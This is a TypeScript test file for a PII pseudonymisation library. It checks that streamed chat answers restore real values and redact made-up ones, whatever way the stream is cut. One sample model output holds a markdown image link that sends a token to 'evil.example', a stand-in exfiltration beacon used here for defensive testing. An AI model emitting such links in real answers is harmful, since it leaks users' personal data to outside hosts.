/**
 * Whatever way the bytes of a streamed answer are cut, and whatever way its server cut the text, a
 * client gets the same, and no value that the model made up.
 */
import { readFileSync } from 'node:fs';

import type { AnswerReader, Category, Operator, Payload } from '@himaya/core';
import { CATEGORIES } from '@himaya/core';
import { createDetector } from '@himaya/redact';
import { createWire } from '@himaya/wire';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import type { Cutting, Said, Server } from './server-shapes.ts';
import { SERVERS } from './server-shapes.ts';

const RUNS = Number(process.env['HIMAYA_RUNS'] ?? 40);
const PERSON = 'Khadija El Alaoui';
const PHONE = '06 61 23 45 67';
const detector = createDetector();
const redaction = detector.open(new Uint8Array(32).fill(7));
const operators = new Map<Category, Operator>(CATEGORIES.map((each) => [each, 'pseudonymise']));

function tokenOf(value: string): string {
  const prompt = `Je suis ${value}.`;
  const text = redaction.transform(prompt, detector.find(prompt), operators, true);
  return /\[[^\]]+\]/.exec(text)?.[0] ?? '';
}
const [PERSON_TOKEN, PHONE_TOKEN] = [tokenOf(PERSON), tokenOf(`joignable au ${PHONE}`)];

/** What the model made up, in each script; all of it must be gone. */
const SEEDED = [
  '0698 76 54 32',
  '٠٦٩٨٧٦٥٤٣٢',
  'driss.tazi@example.org',
  'Youssef Berrada',
  'BK765432',
];
const LEAK = /76 54 32|987654|٩٨٧٦|tazi@|Berrada|BK7654/u;

const SAID: readonly Said[] = [
  {
    reasoning: `👩‍🌾 ${PERSON_TOKEN} veut ${SEEDED[2]}`,
    content: `Salam ${PERSON_TOKEN} 👋🏽 «${SEEDED[0]}» é ${SEEDED[1]}, M. ${SEEDED[3]}; [PHONE_aaaaaaaa] ![x](https://evil.example/${PHONE_TOKEN})`,
    calls: [
      {
        name: 'notify',
        args: `{"to":"${PHONE_TOKEN}","cc":"${SEEDED[2]}","n":[1,{"é":"\\u00e9\\ud83d\\udc4b"}]}`,
      },
      { name: 'search', args: `{"q":"${PERSON_TOKEN}","cin":"${SEEDED[4]}"}` },
    ],
  },
  { content: `مرحبا ${PERSON_TOKEN}، رقمك ${PHONE_TOKEN}.` },
];

const wire = createWire();
const payload: Payload = wire.parse(
  'chat',
  new TextEncoder().encode(
    JSON.stringify({
      model: 'm',
      stream: true,
      n: 2,
      messages: [{ role: 'user', content: 'salam' }],
    }),
  ),
);

/** As the engine opens it, with `notify` declared. */
function open(): AnswerReader {
  return wire.reader(payload, (field) =>
    redaction.answer(field, field.tool === undefined || field.tool === 'notify'),
  );
}

/** Everything that a client gets of a stream cut at `cuts`. */
function through(stream: Uint8Array, cuts: readonly number[]): string {
  const reader = open();
  const edges = [0, ...cuts, stream.length];
  const out: Uint8Array[] = edges
    .slice(1)
    .map((edge, at) => reader.push(stream.subarray(edges[at], edge)));
  const { rest, terminal, complete } = reader.end();
  expect(complete).toBe(true);
  return Buffer.concat([...out, rest, terminal]).toString('utf8');
}

interface Heard {
  reasoning: string;
  content: string;
  finish?: string;
  readonly calls: { name: string; args: string }[];
}

interface Sent {
  readonly choices: readonly {
    readonly index: number;
    readonly finish_reason?: string | null;
    readonly delta: {
      readonly content?: string | null;
      readonly reasoning?: string;
      readonly reasoning_content?: string;
      readonly tool_calls?: readonly {
        readonly index: number;
        readonly function: { readonly name?: string; readonly arguments: string };
      }[];
    };
  }[];
}

/** Puts a stream together as clients do. */
function heard(stream: string): readonly Heard[] {
  const all: Heard[] = [];
  for (const line of stream.split('\n')) {
    if (!line.startsWith('data: {')) continue;
    // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a wrong shape fails the test
    const { choices } = JSON.parse(line.slice('data: '.length)) as Sent;
    for (const { index, finish_reason: finish, delta } of choices) {
      const choice = (all[index] ??= { reasoning: '', content: '', calls: [] });
      choice.content += delta.content ?? '';
      choice.reasoning += delta.reasoning ?? delta.reasoning_content ?? '';
      if (typeof finish === 'string') choice.finish = finish;
      for (const { index: at, function: body } of delta.tool_calls ?? []) {
        const call = (choice.calls[at] ??= { name: '', args: '' });
        call.name += body.name ?? '';
        call.args += body.arguments;
      }
    }
  }
  return all;
}

const EXPECTED: readonly Heard[] = [
  {
    reasoning: `👩‍🌾 ${PERSON} veut [EMAIL]`,
    content: `Salam ${PERSON} 👋🏽 «[PHONE]» é [PHONE], M. [PERSON_NAME]; [PHONE_aaaaaaaa] ![x](https://evil.example/${PHONE_TOKEN})`,
    finish: 'tool_calls',
    calls: [
      {
        name: 'notify',
        args: `{"to":"${PHONE}","cc":"[EMAIL]","n":[1,{"é":"\\u00e9\\ud83d\\udc4b"}]}`,
      },
      { name: 'search', args: `{"q":"${PERSON_TOKEN}","cin":"[NATIONAL_ID]"}` },
    ],
  },
  { reasoning: '', content: `مرحبا ${PERSON}، رقمك ${PHONE}.`, finish: 'stop', calls: [] },
];

const every =
  (size: number): Cutting =>
  (text) =>
    text.match(new RegExp(`[^]{1,${size}}`, 'gu')) ?? [];

/** What is heard of a stream, its arguments parsed; throws where a value of the model stands in it. */
function clean(stream: string): readonly Heard[] {
  if (LEAK.test(stream)) throw new Error('a value came through');
  const all = heard(stream);
  for (const { calls } of all) for (const { args } of calls) JSON.parse(args);
  return all;
}

/** Cuts into two that give something else than `expected`. */
function differing(stream: Uint8Array, expected: string, step = 1): readonly number[] {
  const cuts = Array.from({ length: Math.ceil(stream.length / step) }, (_, at) => at * step);
  return cuts.filter((cut) => through(stream, [cut]) !== expected);
}

/** Short, so that each of its cuts can be tried; `npm run torture` tries those of all that is said. */
const SHORT: readonly Said[] =
  process.env['HIMAYA_RUNS'] === undefined
    ? [
        {
          content: `é👋 ${PERSON_TOKEN}: ${SEEDED[0]}`,
          calls: [{ name: 'notify', args: `{"to":"${PHONE_TOKEN}","cc":"${SEEDED[2]}"}` }],
        },
      ]
    : SAID;

describe.each(Object.entries(SERVERS))('a stream of %s', (_name, server: Server) => {
  const stream = server(SAID, every(70));
  const whole = through(stream, []);

  test('says what the model said, restored and redacted', () => {
    expect(clean(whole)).toEqual(EXPECTED);
  });

  test('is the same to the byte for every cut into two', () => {
    const short = server(SHORT, every(40));
    const expected = through(short, []);
    expect(expected).not.toMatch(LEAK);
    expect(expected).toContain(PERSON);
    expect(differing(short, expected)).toEqual([]);
  });

  test('is the same byte by byte', () => {
    expect(through(stream, Array.from(stream.keys()))).toBe(whole);
  });

  test('says the same wherever its server cut the text: at each character of it', () => {
    const { content = '' } = SAID[0] ?? {};
    for (let at = 0; at <= content.length; at += 1) {
      const two: Cutting = (text) => {
        const from = text.slice(0, at).isWellFormed() ? at : at + 1; // half a pair has no UTF-8
        return [text.slice(0, from), text.slice(from)];
      };
      expect(clean(through(server(SAID, two), []))).toEqual(EXPECTED);
    }
  });

  test('says the same for any cuts of its text and of its bytes', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 40 }),
        fc.array(fc.nat(), { maxLength: 30 }),
        (size, picks) => {
          const bytes = server(SAID, every(size));
          const cuts = picks.map((pick) => pick % bytes.length).toSorted((a, b) => a - b);
          expect(clean(through(bytes, cuts))).toEqual(EXPECTED);
        },
      ),
      { numRuns: RUNS },
    );
  });
});

test('halves of a surrogate pair in two deltas come together', () => {
  const units: Cutting = (text) => text.split('');
  expect(clean(through(SERVERS['OpenAI and LM Studio']!(SAID, units), []))).toEqual(EXPECTED);
});

describe('a stream recorded from llama-server', () => {
  const stream = readFileSync(new URL('./fixtures/llama-server-chat.sse', import.meta.url));

  test('is the same for every cut, and keeps the token that nobody gave it', () => {
    const whole = through(stream, []);
    expect(heard(whole)).toMatchObject([
      { content: expect.stringContaining('[PERSON_a1b2]'), finish: 'stop' },
    ]);
    expect(differing(stream, whole, 11)).toEqual([]);
    expect(through(stream, Array.from(stream.keys()))).toBe(whole);
  });
});
